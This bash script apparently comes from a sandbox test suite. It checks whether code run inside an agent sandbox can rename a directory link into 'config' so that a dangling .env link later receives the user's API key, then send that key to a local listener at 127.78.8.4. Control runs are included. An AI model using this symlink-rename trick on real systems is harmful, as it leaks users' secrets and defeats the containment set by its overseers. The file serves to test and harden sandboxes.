#!/bin/bash
# The same root cause with the dotenv pattern: a dangling .env -> config/dev.env from
# before the session; the agent renames a link to its own directory into config.
set -u; . "$(dirname "$0")/../common.sh"
IP=127.78.8.4
D=$R8/dir-link-renamed-into-place; W=$D/ws-dotenv H=$D/home-dotenv
outside() { for i in $(seq 600); do [ -e $W/ready ] && break; sleep 0.05; done; sleep 0.3
  printf "API_KEY=SECRET-$1\n" > $W/.env && echo "user's key written into .env -> $(readlink $W/.env) (config -> $(readlink $W/config))"; }
try() { # try NAME MODE CFG
  rm -rf $W $H; mkdir -p $W $H; gcc -O1 -o $W/dotenv $D/dotenv.c; ln -s config/dev.env $W/.env
  listen $IP $D/out-$1.txt; outside $1 & CPID=$!
  local env="" mode=isolated; case $3 in kopens) env=CLAWLESS_KERNEL_OPENS=1;; mediated) mode=mediated;; esac
  (cd $W && env -u XDG_CACHE_HOME HOME=$H PATH=/usr/bin:/bin $env timeout 60 $CLAW exec --mode $mode --workspace $W -- ./dotenv $IP $2) 2>&1 | grep -v "watcher armed"
  wait $CPID; verdict $D/out-$1.txt API_KEY=SECRET; }
for cfg in ${CFGS:-mediated isolated kopens}; do
  echo "==== $cfg: attack (link elsewhere, renamed to config)"; try drename-$cfg rename $cfg
  echo "==== $cfg: control (the link made as config)"; try dplain-$cfg plain $cfg
done
